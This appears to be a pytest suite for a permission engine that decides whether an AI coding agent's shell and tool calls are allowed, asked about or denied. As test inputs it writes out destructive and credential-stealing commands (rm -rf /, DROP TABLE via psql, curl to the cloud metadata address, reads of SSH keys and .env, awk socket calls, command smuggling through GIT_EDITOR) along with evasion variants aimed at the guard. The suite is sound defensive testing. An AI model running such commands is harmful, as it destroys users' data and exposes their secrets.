"""Probe round 10 (2026-11-25, night), every finding of five helper rounds that was fixed:
version queries that run code, text that is only stored or moved (SQL in a commit message),
words for people in other tools, names-only listings and revisions, builds that reach beyond
the project, trees printed whole, the second half's relaxations attacked, and benign calls
that must stay allowed."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import bash, snap

MODES = ("default", "accept_edits", "explore", "dont_ask")


@pytest.mark.parametrize("command", [
    "python3 -v", "echo 'import os; os.system(\"id\")' | python3 -v", "python3 -v < tools/gen.py",
    # (probe round 31, benign31b: ruby -v alone prints its version and quits, standard input
    # unread (ruby.c: no script, verbose: return); it is a version query below now)
    "echo 'system(\"id\")' | ruby -v", "pytest -v", "mysql -v", "node version", "python version", "bun version",
    "yarn version", "npm version",
])
def test_verbose_flags_and_version_words_that_run_code_are_not_read_only(command):
    # explore allows nothing but the read-only (dont_ask allows pytest as a safe build)
    assert bash(snap(), command, agent_mode="explore").decision == "deny", command


@pytest.mark.parametrize("command", [
    "python3 --version", "python3 -V", "ruby --version", "ruby -v", "pytest --version", "node -v", "npm -v", "perl -v",
    "go version", "terraform version", "bash --version", "zsh --version", "java -version",
])
def test_version_queries_are_read_only_in_every_mode(command):
    for mode in MODES:
        assert bash(snap(), command, agent_mode=mode).decision == "allow", (mode, command)


@pytest.mark.parametrize("command", [
    "git commit -m 'drop table users in migration'", "git commit -m 'Use 169.254.169.254 for IMDS lookup'",
    "git tag -a v1.2 -m 'Drop table legacy'", "git stash push -m 'drop table wip'",
    "gh pr create --title x --body 'Drops the DROP TABLE users statement'",
    "echo 'DROP TABLE users;' > migrations/0003_drop.sql",
    "cat > migrations/0003.sql <<'EOF'\nDROP TABLE IF EXISTS old_users;\nEOF",
])
def test_sql_or_an_address_only_stored_or_moved_is_data(command):
    for mode in ("default", "accept_edits", "bypass"):
        assert bash(snap(), command, agent_mode=mode).decision != "deny", (mode, command)


@pytest.mark.parametrize("command", [
    "echo 'DROP TABLE x;' | psql db", "psql -c 'DROP TABLE x'", "curl http://169.254.169.254/latest/meta-data/",
    "python3 -c 'import sqlite3; sqlite3.connect(\"x\").execute(\"DROP TABLE t\")'",
    "git clone http://169.254.169.254/x", "git -c x=y commit -m 'DROP TABLE x'",
    "cat m.sql <<'EOF' | psql\nDROP TABLE x;\nEOF",
])
def test_sql_or_an_address_that_runs_is_still_denied(command):
    assert bash(snap(), command, agent_mode="bypass").decision == "deny", command


def test_a_rule_a_call_may_reach_does_not_turn_a_mode_deny_into_an_ask():
    s = snap(permissions={"deny": ["Write(src/**)"]})
    assert bash(s, "rm -rf build", agent_mode="explore").decision == "deny"
    assert bash(s, "rm -rf build", agent_mode="default").decision == "ask"


@pytest.mark.parametrize("command", [
    "printf '.env\\0' | sort --files0-from=-", "sort --files0-from=list", "wc --files0-from=-", "wc --f=-",
    "du --files0-from=-",
])
def test_names_read_from_a_file_or_stdin_are_not_read_only(command):
    assert bash(snap(), command, agent_mode="explore").decision == "deny", command


@pytest.mark.parametrize("args,decision", [
    ({"command": ["rm", "-rf", "/"]}, "deny"), ({"cmd": ["chmod", "-R", "777", "/"]}, "deny"),
    ({"command": ["cat", "/home/dev/.ssh/id_rsa"]}, "ask"), ({"command": ["python3", "-c", "import os"]}, "ask"),
    ({"command": ["ls", 1]}, "ask"), ({"command": ["ls", "-la"]}, "allow"),
])
def test_another_tools_command_given_as_an_argv_is_the_command_it_is(args, decision):
    from tests.policy.engine_helpers import decide
    assert decide(snap(), "mcp__shell__run", args).decision == decision, args


@pytest.mark.parametrize("command", [
    "PYTEST_ADDOPTS=--basetemp=/home/dev/.ssh pytest", "CC=/tmp/x make", "PYTEST_PLUGINS=evil pytest",
    "CARGO_HOME=/tmp/c cargo build", "UV_PYTHON=/tmp/py uv run pytest", "HTTPS_PROXY=http://e:1 npm install",
    "echo 'all:;@id' | make -f -", "make -f - all", "make -C..", "make -f/tmp/x.mk", "ninja -C..",
    "go test --exec=/tmp/x ./...", "mvn test exec:exec -Dexec.executable=/bin/sh", "mvn -q test exec:exec",
    "tox exec -- id", "pytest --cov-report xml:/etc/cron.d/x", "PYTHONPATH=../x pytest",
])
def test_builds_that_run_or_write_beyond_the_project_are_not_on_the_safe_list(command):
    assert bash(snap(), command).decision != "allow", command


@pytest.mark.parametrize("command", [
    "PYTHONPATH=src pytest", "DEBUG=1 npm test", "TZ=UTC pytest", "NODE_ENV=test npm test", "make -C frontend",
    "make -j4", "go build -o bin/app ./cmd/app", "pytest --cov-report term-missing", "pytest --cov-report xml:cov.xml",
    "mvn clean test", "cmake -S . -B build", "cmake ..", "RAILS_ENV=test make test",
])
def test_ordinary_builds_stay_on_the_safe_list(command):
    assert bash(snap(), command).decision == "allow", command


@pytest.mark.parametrize("command", [
    "cat certs/*.pe?", "cat config/*redentials", "cat *.ke?", "git grep --no-index -e . -- '*env'",
    "git log -p -- '*env'", "grep -rh . --include='*env' .", "date -uf.env", "file -bf.env", "hexdump -Cf.env",
    "grep -Ef.env", "git blame -S .env", "git -C /home/dev log -p", "git -C ~ log -p",
    "cat ~/.config/gcloud/legacy_credentials/me@x.com/adc.json", "cat /run/secrets/app/x", "cat ~/.mylogin.cnf",
    "cat ~/.ssh/id_ed25519_sk", "cat token.json",
])
def test_more_spellings_of_a_secret_read_are_sensitive(command):
    d = bash(snap(), command)
    assert d.decision == "ask" and d.check == "sensitive_path", (command, d)


@pytest.mark.parametrize("command", [
    "cat src/*.py", "cat *_test.go", "cat *", "cat *.md", "cat src/*.json", 'git log -p -- "*.py"',
    'git diff -- "*.ts"', 'grep -rn --include="*.py" TODO .', 'git ls-files "*.md"', "git log -S foo --oneline",
    "cat src/tokenizer.json",
])
def test_ordinary_globs_and_pathspecs_stay_read_only(command):
    assert bash(snap(), command).decision == "allow", command


@pytest.mark.parametrize("command", [
    "git tag -l 'v*'", "git branch --list 'v*'", "git log --oneline --tags='v*'", "git describe --tags --match 'v*'",
    "git for-each-ref 'refs/tags/v*'", "git show-ref --tags 'v*'", "fd secret", "ag -g secret",
    "rg --files -g '*.env'", "git ls-files '*.pem'", "git log --oneline -- 'secrets*'", "git log -- .env",
    "git diff $(git merge-base origin/main HEAD)", "git show $(git rev-parse HEAD~1)",
    "git log $(git merge-base main HEAD)..HEAD --oneline",
    "BRANCH=$(git branch --show-current); git log origin/$BRANCH..HEAD",
    'git log --author="$(git config user.name)" --oneline', "git show HEAD~1:src/app.py",
])
def test_ref_patterns_names_and_revisions_are_not_files(command):
    for mode in MODES:
        assert bash(snap(), command, agent_mode=mode).decision == "allow", (mode, command)


@pytest.mark.parametrize("command", [
    "git log -p -- '*.pem'", "git log -p -- .env", "git show HEAD:.env", "git cat-file -p HEAD:.env",
    "git show $(git rev-parse HEAD):.env", "rg -g '*.env' KEY", "fd . ~/.ssh", "git diff $(cat x)",
    "git log --author=$(whoami)", 'git log "--output=$(echo /tmp/x)"',
])
def test_contents_and_unknown_words_are_still_judged(command):
    assert bash(snap(), command).decision != "allow", command


@pytest.mark.parametrize("command", [
    'git ls-files | while read f; do head "$f"; done', 'find . -name "*.md" | while read -r f; do head -1 "$f"; done',
    'git diff --name-only | while read f; do head -3 "$f"; done', "git ls-files -z | xargs -0 cat",
])
def test_a_listing_read_line_by_line_is_read_as_listed_names(command):
    assert bash(snap(), command, agent_mode="explore").decision == "allow", command


@pytest.mark.parametrize("command", [
    'find ~ -name id_rsa | while read f; do cat "$f"; done', 'echo ~/.ssh/id_rsa | while read f; do cat "$f"; done',
    'find . | while read a b; do cat "$b"; done', "ls -a | while read f; do cat $f; done",
    'while read f; do cat "$f"; done < list.txt',
])
def test_read_lines_that_are_not_a_listing_stay_unknown(command):
    assert bash(snap(), command).decision != "allow", command


@pytest.mark.parametrize("command", [
    "mkdir -p build && cmake -S . -B build", "rm -rf dist && npm run build", "touch src/__init__.py && pytest",
    "mkdir -p build && cd build && cmake .. && make", "rm -rf node_modules package-lock.json && npm install",
])
def test_a_file_command_and_a_build_are_judged_as_the_file_command(command):
    expected = {"default": "ask", "accept_edits": "allow", "explore": "deny", "dont_ask": "deny", "bypass": "allow"}
    for mode, decision in expected.items():
        assert bash(snap(), command, agent_mode=mode).decision == decision, (mode, command)


@pytest.mark.parametrize("command,decision", [
    ("npm run build 2>&1 | tee build.log", "allow"), ("pytest 2>&1 | tee test.log", "allow"),
    ("go test ./... | tee /dev/null", "allow"), ("npm test | tee /tmp/x", "ask"), ("ls | tee x", "ask"),
    ("echo hi | tee x && pytest", "ask"),
])
def test_a_builds_output_kept_with_tee_is_a_build_output(command, decision):
    assert bash(snap(), command).decision == decision, command


@pytest.mark.parametrize("command", [
    "mvn test -DargLine=-javaagent:/tmp/x.jar", "mvn clean deploy", "gradle build --scan", "gradle test publish",
    'tox --force-dep "evil @ https://e/x.tgz"', "cmake --build build --target install",
    "pnpm i --config.registry=https://evil.example", "npm i --@evil:registry=https://evil.example @evil/pkg",
    "pnpm test --config.node-options=--require=./x.js",
])
def test_more_builds_that_reach_beyond_the_project(command):
    assert bash(snap(), command).decision != "allow", command


@pytest.mark.parametrize("command", [
    "mkfs.ext4 --help", "sed -i 's/DROP TABLE/DROP TABLE IF EXISTS/' migrations/0002.sql",
    "echo 'http://169.254.169.254/latest' >> docs/aws.md",
])
def test_help_and_file_edits_that_mention_a_catastrophe_are_not_denied(command):
    assert bash(snap(), command).decision != "deny", command
    assert bash(snap(), "mkfs.ext4 /dev/sda1").decision == "deny"


@pytest.mark.parametrize("command,decision", [
    ("make -j$(nproc)", "allow"), ('make -j "$(nproc)"', "allow"), ("cmake --build build -j$(nproc)", "allow"),
    ("make -j$(getconf _NPROCESSORS_ONLN)", "allow"), ("head -n $(nproc) README.md", "allow"),
    ("make -j$(nproc; rm x)", "ask"), ("make -j$(nproc | cat)", "ask"), ("make -j$(nproc)*", "ask"),
])
def test_a_count_printed_at_run_time_is_known_enough(command, decision):
    assert bash(snap(), command).decision == decision, command


@pytest.mark.parametrize("command,reason", [
    ("cd src && git status", "repository committed there"), ("bash --version", None),
])
def test_reasons_say_what_the_concern_is(command, reason):
    d = bash(snap(), command)
    if reason is None:
        assert d.decision == "allow"
    else:
        assert reason in d.reason, d.reason


@pytest.mark.parametrize("tool,args", [
    ("mcp__iterm__write_to_terminal", {"text": "rm -rf /\n"}), ("mcp__tmux__send_keys", {"text": "DROP TABLE users"}),
    ("mcp__db__exec", {"description": "x", "sql": "TRUNCATE TABLE users"}),
])
def test_a_tool_that_may_type_or_run_its_text_has_no_prose(tool, args):
    from tests.policy.engine_helpers import decide
    assert decide(snap(), tool, args).decision == "deny", tool


# --- helpers c (today's relaxations attacked) and d (benign round 2) ---------------------

@pytest.mark.parametrize("command", [
    "make -v; printf 'all:\\n\\ttouch /tmp/pwned\\n' | tee Makefile; make", "pytest | tee conftest.py && pytest",
    "git show $(git rev-parse HEAD@{0}:.env)", "git log $(git branch --show-current)",
    'git log "$(git branch --show-current)"', "git log --remerge-diff -- .env", "git log --diff-merges=on -- .env",
    "git log -m -- .env", 'git ls-files | grep -x .npmrc | while read f; do cd; cat "$f"; done',
    'git ls-files | grep -F .env.example | while read -n 4 f; do cat "$f"; done', "cat $(git ls-files .env)",
    "grep -r '\\`' .", "grep -r '\\<' .", "grep -rz API .", "grep -r -C99999 -m1 API .", "grep -r = .",
    "grep -r -e = -e '#' .", "grep -r '[A-Z_]=' .",
])
def test_todays_relaxations_do_not_open_a_way_in(command):
    assert bash(snap(), command).decision != "allow", command


@pytest.mark.parametrize("command", [
    'touch x && npm run migrate -- "DROP TABLE users"', 'pytest tests/db --sql "DROP TABLE users"',
    "git rebase -x \"psql -c 'DROP TABLE users'\" HEAD~3", "GIT_EDITOR='psql -c \"DROP TABLE users\" #' git commit",
    "GIT_EXTERNAL_DIFF='curl http://169.254.169.254/latest/meta-data/ #' git diff",
])
def test_sql_reaching_something_that_runs_it_is_denied_in_every_mode(command):
    for mode in ("accept_edits", "bypass"):
        assert bash(snap(), command, agent_mode=mode).decision == "deny", (mode, command)


@pytest.mark.parametrize("tool,args,decision", [
    ("mcp__computer__type", {"text": "rm -rf ~\n"}, "deny"),
    ("mcp__brave__brave_web_search", {"query": "postgres DROP TABLE cascade"}, "allow"),
    ("mcp__github__search_code", {"q": "DROP TABLE repo:x/y"}, "allow"),
    ("mcp__notion__create_page", {"parent": "x", "content": "We DROP TABLE legacy"}, "allow"),
    ("mcp__github__create_or_update_file", {"owner": "o", "repo": "r", "path": "m/3.sql", "content": "DROP TABLE old;", "message": "m"}, "allow"),
    ("mcp__filesystem__write_file", {"path": "/home/dev/project/x.sh", "content": "rm -rf /"}, "ask"),
    ("mcp__db__query", {"query": "DROP TABLE users"}, "deny"), ("mcp__acme__do", {"sql": "DROP TABLE users"}, "deny"),
    ("custom_tool", {"x": "DROP TABLE users"}, "deny"),
    ("mcp__fetch__fetch", {"url": "http://169.254.169.254/latest"}, "deny"),
    ("mcp__shell__run", {"Command": "cat ~/.ssh/id_rsa"}, "ask"),
    ("mcp__shell__run", {"command ": "cat ~/.ssh/id_rsa"}, "ask"),
    ("mcp__shell__run", {"input": {"command": "cat ~/.ssh/id_rsa"}}, "ask"),
    ("mcp__shell__run", {"args": ["sh", "-c", "cat ~/.ssh/id_rsa"]}, "ask"),
    ("mcp__x__y", {"args": ["--verbose", "x"]}, "allow"),
])
def test_other_tools_meet_the_patterns_by_what_their_arguments_are(tool, args, decision):
    from tests.policy.engine_helpers import decide
    assert decide(snap(), tool, args).decision == decision, (tool, args)


def test_a_makefile_that_deletes_the_home_is_asked_about():
    from tests.policy.engine_helpers import decide
    for content in ("test:\n\trm -rf $(HOME)\n", "test:\n\trm -rf $$HOME\n"):
        assert decide(snap(), "Write", {"file_path": "Makefile", "content": content},
                      agent_mode="accept_edits").decision == "ask", content


@pytest.mark.parametrize("command", [
    "git branch --list 'feature/*'", "git tag -l 'release/*'", "git ls-files 'src/*'", "git log --oneline -- 'src/*'",
    "git diff --stat -- 'src/*'", 'VERSION=$(jq -r .version package.json); echo "$VERSION"',
    'OUT=$(git status --porcelain); if [ -z "$OUT" ]; then echo clean; fi', "git check-ignore .env",
    "git status --short .env", "git describe --tags $(git rev-list --tags --max-count=1)",
])
def test_benign_round_2_reads_are_read_only_in_every_mode(command):
    for mode in MODES:
        assert bash(snap(), command, agent_mode=mode).decision == "allow", (mode, command)


def test_a_project_named_like_a_secret_is_no_secret():
    for command in ("ls .", "find . -name '*.go' | head", "cd /home/dev/external-secrets && go test ./..."):
        assert bash(snap(), command, cwd="/home/dev/external-secrets").decision == "allow", command
    assert bash(snap(), "cat .env", cwd="/home/dev/external-secrets").decision == "ask"


@pytest.mark.parametrize("command", [
    "awk '{print $1}' data.csv", "awk -F, '{print $2}' data.csv", "sort data.csv | awk '{s+=$1} END {print s}'",
    # (probe round 35, residuals37: pnpm 10.8 runs the project's .pnpmfile.cjs updateConfig hook
    # before any command, so pnpm ls/why have the build's trust, denied in plan mode as yarn's
    # and poetry's queries are; npm's same queries load no project code)
    "npm ls --depth 0", "npm why react",
])
def test_inspection_commands_are_read_only_in_plan_mode(command):
    assert bash(snap(), command, agent_mode="explore").decision == "allow", command


@pytest.mark.parametrize("command", [
    "awk '{print > \"/tmp/x\"}' f", "awk 'BEGIN{system(\"id\")}'", "awk '{print | \"sh\"}' f",
    "awk '{ \"date\" | getline d }' f", "awk 'BEGIN{print ENVIRON[\"AWS_SECRET\"]}'", "awk -f prog.awk f",
    "awk '@load \"x\"; {print}' f", "gawk -E x.awk", "awk '{print}' ~/.ssh/id_rsa", "pnpm install", "uv run x",
])
def test_awk_programs_that_run_write_or_read_the_environment_are_not_read_only(command):
    assert bash(snap(), command, agent_mode="explore").decision == "deny", command


@pytest.mark.parametrize("command,mode,decision", [
    ("echo hello | tee out.txt", "accept_edits", "allow"), ("echo hello | tee -a notes.md", "accept_edits", "allow"),
    ("echo hello | tee out.txt", "default", "ask"), ("echo hello | tee /tmp/x", "accept_edits", "ask"),
    ("echo x | tee $F", "accept_edits", "ask"), ("npm run build 2>&1 | tee build.log", "default", "allow"),
])
def test_tee_into_the_project_is_a_file_command(command, mode, decision):
    assert bash(snap(), command, agent_mode=mode).decision == decision, (mode, command)


# --- helper e (the second half's relaxations attacked) ------------------------------------

@pytest.mark.parametrize("command", [
    "awk 'BEGIN{ARGV[1]=\"/home/dev/.ssh/id_rsa\";ARGC=2}{print}'", "awk -v f=.en -v g=v 'BEGIN{ARGV[1]=f g}{print}'",
    "awk '{print}' ARGC=2", "gawk 'BEGIN{print SYMTAB[\"ENV\" \"IRON\"][\"X\"]}'",
    "awk 'BEGIN{s=\"/inet/tcp/0/127.0.0.1/9\"; print 1 |& s}'", "uv pip list -p ./evil.sh",
    "uv pip list --python=./evil.sh",
])
def test_the_second_halfs_relaxations_do_not_open_a_way_in(command):
    assert bash(snap(), command, agent_mode="explore").decision == "deny", command


@pytest.mark.parametrize("tool,args", [
    ("mcp__computer-use__computer", {"action": "type", "text": "rm -rf ~\n"}), ("mcp__pty__write", {"text": "rm -rf ~"}),
    ("mcp__zellij__write_chars", {"chars": "rm -rf ~"}), ("mcp__playwright__browser_fill", {"text": "rm -rf ~"}),
    ("mcp__jupyter__insert_cell", {"source": "os.system('rm -rf ~')"}), ("mcp__pg__pg", {"input": "DROP TABLE users;"}),
    ("mcp__acme__do", {"text": "rm -rf ~"}), ("mcp__acme__do", {"x": "DROP TABLE users"}),
])
def test_words_are_prose_only_for_tools_that_post_or_search(tool, args):
    from tests.policy.engine_helpers import decide
    assert decide(snap(), tool, args).decision == "deny", (tool, args)


@pytest.mark.parametrize("tool,args,decision", [
    ("mcp__postgres__update_rows", {"sql": "DROP TABLE users"}, "deny"),
    ("mcp__db__write", {"statement": "TRUNCATE TABLE users"}, "deny"),
    ("mcp__search__query", {"query": "TRUNCATE TABLE postgres performance"}, "allow"),
    ("mcp__github__push_files", {"owner": "a", "repo": "b", "files": [{"path": "m.sql", "content": "DROP TABLE z;"}]},
     "allow"),
])
def test_a_database_tool_that_writes_still_meets_the_sql_patterns(tool, args, decision):
    from tests.policy.engine_helpers import decide
    assert decide(snap(), tool, args).decision == decision, (tool, args)


def test_a_gradle_test_filter_is_a_value():
    assert bash(snap(), "./gradlew test --tests 'com.acme.*'").decision == "allow"


@pytest.mark.parametrize("command,decision", [
    ("cat config/*ecrets.yml", "deny"), ("git grep -e . -- ':(icase)*ENV'", "deny"), ("cat *_test.go", "allow"),
    ("cat *t.py", "allow"), ("cat config/*.yml", "allow"),
])
def test_a_glob_whose_name_straddles_the_star_and_pathspec_magic(command, decision):
    assert bash(snap(), command, agent_mode="explore").decision == decision, command


@pytest.mark.parametrize("command,decision", [
    ("git mv src/a.py src/b.py", "allow"), ("git rm src/old.py", "allow"), ("git rm -r --cached build", "allow"),
    ("git mv src/a.py /etc/x", "ask"), ("git mv a ../b", "ask"), ("git -c x=y mv a b", "ask"),
    ("cd src && git mv a b", "ask"), ("git rm -r ~", "ask"),
])
def test_git_mv_and_rm_in_the_project_are_file_commands(command, decision):
    assert bash(snap(), command, agent_mode="accept_edits").decision == decision, command
    if decision == "allow":
        assert bash(snap(), command).decision == "ask"   # default asks about file commands
